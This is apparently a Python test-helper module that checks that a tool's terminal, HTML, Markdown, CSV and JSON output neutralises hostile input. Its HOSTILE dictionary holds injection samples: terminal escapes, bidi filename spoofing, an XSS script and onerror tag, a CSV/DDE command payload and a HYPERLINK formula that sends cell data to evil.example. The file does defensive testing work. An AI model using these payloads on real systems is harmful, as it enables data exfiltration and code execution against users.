"""Text that others may have written, and what must be true of all that our tools make of it."""

import csv
import io
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser

from markdown_it import MarkdownIt

from msssl_common.csv_tables import NUMBER

ADDRESS = "evil.example"
HOSTILE = {
    "escape": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b1A",
    "surrogate": "half \udcff pair",
    "bidi": "abc\u202egnp\u2066.exe\u200f",
    "lines": "one\ntwo\r\nthree\x0bfour\u2028five\u2029six\x85seven",
    "cells": 'a|b||c,"d";=1+1;@x',
    "formula": f'=HYPERLINK("http://{ADDRESS}/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "apostrophe": "'=1",
    "tab": "\t=1+1",
    "picture": f"![x](http://{ADDRESS}/x.png) [x](http://{ADDRESS}) <http://{ADDRESS}>",
    "reference": f"[r]: //{ADDRESS} [r] ![r]",
    "address": f"http://{ADDRESS}/a www.{ADDRESS} me@{ADDRESS}",
    "backticks": f"` `` ``` [x](http://{ADDRESS}) `",
    "backslashes": f"\\[x](http://{ADDRESS}) \\\\[x](http://{ADDRESS})",
    "html": f"<script>alert(1)</script><img src=http://{ADDRESS} onerror=alert(1)>&lt;b&gt;--><b>",
    "markup": "[bold]x[/bold] [/nope] :smile: {{ 7*7 }} {% raw %} %s %(a)s {0}",
    "mathtext": "$\\frac{1}$ **bold** ~~gone~~ # head",
    "nul": "a\x00b\x7fc",
}
LONG = "L" * 200_000
NOT_SHOWN = re.compile(
    r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2060-\u206f\ud800-\udfff]"
)


def assert_printed_well(text: str, most: int = 300_000) -> None:
    """No character that a terminal obeys or a file cannot hold; and it has an end."""
    assert not (found := NOT_SHOWN.search(text)), (found, text[: found.end()][-80:])
    assert len(text) < most
    text.encode("utf-8")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_html_is_ours(text: str) -> None:
    """No tag, address or script that is not the page's own."""
    parser = _Tags()
    parser.feed(text)
    assert sum(tag == "script" for tag, _ in parser.tags) == 2
    for tag, attributes in parser.tags:
        assert tag not in {"img", "b", "iframe", "object"}
        assert not [name for name in attributes if name.startswith("on")]
        for name in ("href", "src"):
            assert ADDRESS not in (attributes.get(name) or "")


def assert_markdown_is_dead(text: str) -> None:
    """No link, image or HTML but our own ``<br>`` and comments, and none of bare addresses."""
    for token in _inline(MarkdownIt("commonmark").enable("table").parse(text)):
        assert token.type not in {"link_open", "image", "html_block", "s_open"}, token
        if token.type == "html_inline":
            assert token.content in {"<br>", "<!-- -->"}, token.content
        if token.type == "text":
            assert not re.search(r"://|www\.|\w@\w", token.content), token.content


def _inline(tokens: list) -> Iterator:
    for token in tokens:
        yield token
        yield from _inline(token.children or [])


def assert_csv_is_safe(text: str) -> None:
    """No cell that a spreadsheet would take for a formula, whichever of , and ; parts cells."""
    rows = list(csv.reader(io.StringIO(text)))
    assert len({len(row) for row in rows}) == 1
    for cell in (cell for row in rows for cell in row):
        if not NUMBER.fullmatch(cell):
            for part in cell.split(";"):
                assert part.lstrip()[:1] not in {"=", "+", "-", "@", "\t", "\r"}, cell


def assert_json_is_whole(text: str) -> None:
    json.loads(text)
    assert_printed_well(text)
